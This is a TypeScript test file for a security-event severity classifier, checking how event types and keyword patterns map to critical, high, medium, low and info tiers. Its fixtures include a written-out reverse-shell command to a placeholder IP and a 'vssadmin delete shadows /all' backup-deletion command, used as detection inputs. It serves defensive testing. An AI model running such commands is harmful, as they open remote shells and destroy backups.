import type { Severity } from "@vigie/contracts";
import { describe, expect, it } from "vitest";
import { type ClassifiableEvent, classifySeverity } from "./classify.ts";

/** An event with nothing that matches, overridden per case. */
function event(overrides: Partial<ClassifiableEvent> = {}): ClassifiableEvent {
  return { event_type: "unknown", message: null, normalized: {}, ...overrides };
}

describe("classifySeverity, rule 1: event types that are high", () => {
  it.each(["privilege_escalation", "data_exfiltration", "c2_communication", "reverse_shell"])(
    "%s → high",
    (type) => {
      expect(classifySeverity(event({ event_type: type }))).toBe("high");
    },
  );

  it("wins over critical text (the event type is checked first)", () => {
    const e = event({ event_type: "data_exfiltration", message: "ransomware detected" });
    expect(classifySeverity(e)).toBe("high");
  });
});

describe("classifySeverity, rule 2: event types that are medium", () => {
  it.each(["login_failure", "port_scan", "firewall_deny", "ids_alert"])("%s → medium", (type) => {
    expect(classifySeverity(event({ event_type: type }))).toBe("medium");
  });

  it("wins over critical and high text", () => {
    const e = event({
      event_type: "ids_alert",
      normalized: { signature_name: "ET MALWARE ransomware command and control beacon" },
    });
    expect(classifySeverity(e)).toBe("medium");
    expect(classifySeverity(event({ event_type: "login_failure", message: "brute force" }))).toBe("medium");
  });

  it("matches the event type exactly, not case-insensitively", () => {
    // Not in the set, so the text tiers decide, and "Firewall_Deny" contains none of their patterns.
    expect(classifySeverity(event({ event_type: "Firewall_Deny" }))).toBe("info");
  });
});

describe("classifySeverity, rule 3: text tiers", () => {
  type Case = [pattern: string, expected: Severity, field: keyof typeof FIELDS, text: string];
  /** Each way of carrying text into the classifier. */
  const FIELDS = {
    message: (text: string) => event({ message: text }),
    event_type: (text: string) => event({ event_type: text }),
    signature_name: (text: string) => event({ normalized: { signature_name: text } }),
    classification: (text: string) => event({ normalized: { classification: text } }),
    command_line: (text: string) => event({ normalized: { command_line: text } }),
  };

  const cases: Case[] = [
    ["privilege.?escalat", "critical", "message", "Privilege escalation via sudo"],
    ["root.?compromise", "critical", "signature_name", "Possible root-compromise of host"],
    ["data.?exfiltrat", "critical", "classification", "Data Exfiltration"],
    ["ransomware", "critical", "command_line", "vssadmin delete shadows /all # ransomware prep"],
    ["command.?and.?control", "critical", "signature_name", "ET CNC Command and Control channel"],
    ["c2.?beacon", "critical", "event_type", "c2_beacon"],
    ["brute.?force", "high", "message", "SSH brute force from 203.0.113.7"],
    ["lateral.?movement", "high", "classification", "lateral-movement"],
    ["reverse.?shell", "high", "command_line", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1 (reverse shell)"],
    ["malware", "high", "signature_name", "ET MALWARE Win32/Emotet"],
    ["exploit", "high", "classification", "Attempted exploitation: exploit kit"],
    ["unauthorized.?access", "high", "event_type", "unauthorized_access"],
    ["login.?fail", "medium", "message", "login failed for user bob"],
    ["authentication.?fail", "medium", "event_type", "authentication_failure"],
    ["suspicious", "medium", "signature_name", "ET CURRENT_EVENTS SUSPICIOUS IRC - PRIVMSG"],
    ["port.?scan", "medium", "classification", "Port Scan"],
    ["denied", "medium", "message", "Access denied to /admin"],
    ["blocked", "medium", "command_line", "curl http://x # blocked by proxy"],
    ["warning", "low", "message", "Disk usage warning on /var"],
    ["policy.?violation", "low", "classification", "Policy Violation"],
    ["anomal", "low", "signature_name", "Traffic anomaly detected"],
  ];

  it.each(cases)("%s → %s (through %s)", (_pattern, expected, field, text) => {
    expect(classifySeverity(FIELDS[field](text))).toBe(expected);
  });

  it.each(["brute force", "brute-force", "bruteforce", "brute_force", "BRUTE.FORCE"])(
    "`.?` accepts one optional separator: %s",
    (text) => {
      expect(classifySeverity(event({ message: text }))).toBe("high");
    },
  );

  it("`.?` allows at most one character between the words", () => {
    expect(classifySeverity(event({ message: "brute  force" }))).toBe("info");
  });

  it("is case-insensitive", () => {
    expect(classifySeverity(event({ message: "RANSOMWARE" }))).toBe("critical");
    expect(classifySeverity(event({ message: "MaLwArE" }))).toBe("high");
    expect(classifySeverity(event({ normalized: { classification: "AnOmAlOuS" } }))).toBe("low");
  });

  it("takes the most severe tier that matches, whichever field carries it", () => {
    const e = event({
      message: "login failed, then warning",
      normalized: { command_line: "ransomware.exe" },
    });
    expect(classifySeverity(e)).toBe("critical");
    expect(classifySeverity(event({ message: "suspicious malware" }))).toBe("high");
    expect(classifySeverity(event({ message: "warning: port scan" }))).toBe("medium");
  });

  it("does not let a pattern span two fields", () => {
    const e = event({ message: "the brute", normalized: { signature_name: "force of habit" } });
    expect(classifySeverity(e)).toBe("info");
  });

  it("ignores other normalized fields and non-text values", () => {
    expect(classifySeverity(event({ normalized: { query: "ransomware.example" } }))).toBe("info");
    expect(classifySeverity(event({ normalized: { signature_name: 42, classification: null } }))).toBe(
      "info",
    );
  });
});

describe("classifySeverity, rule 4", () => {
  it("falls back to info", () => {
    expect(classifySeverity(event({ event_type: "dns_query", message: "lookup example.com" }))).toBe("info");
    expect(classifySeverity(event())).toBe("info");
  });
});
